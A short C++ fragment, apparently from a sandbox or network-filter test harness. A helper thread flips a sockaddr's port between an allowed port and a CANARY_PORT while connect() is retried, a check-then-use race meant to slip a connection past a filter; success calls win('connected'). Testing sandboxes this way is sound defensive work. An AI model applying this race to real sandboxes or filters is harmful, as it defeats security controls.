static sockaddr_in aim;
static volatile bool over;
static void* shake(void*) {
    const uint16_t other = htons(CANARY_PORT), own = htons(9);
    while (!over) {
        *(volatile uint16_t*)&aim.sin_port = other;
        *(volatile uint16_t*)&aim.sin_port = own;
    }
    return nullptr;
}
static void reach() {
    aim = ipv4("127.0.0.1", 9);
    pthread_t thread;
    pthread_create(&thread, nullptr, shake, nullptr);
    for (int attempt = 0; attempt < 1000; ++attempt) {
        const int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (sockaddr*)&aim, sizeof aim) == 0) {
            win("connected");
            attempt = 1000;
        }
        close(fd);
    }
    over = true;
    pthread_join(thread, nullptr);
}
#define ATTACK_START reach()
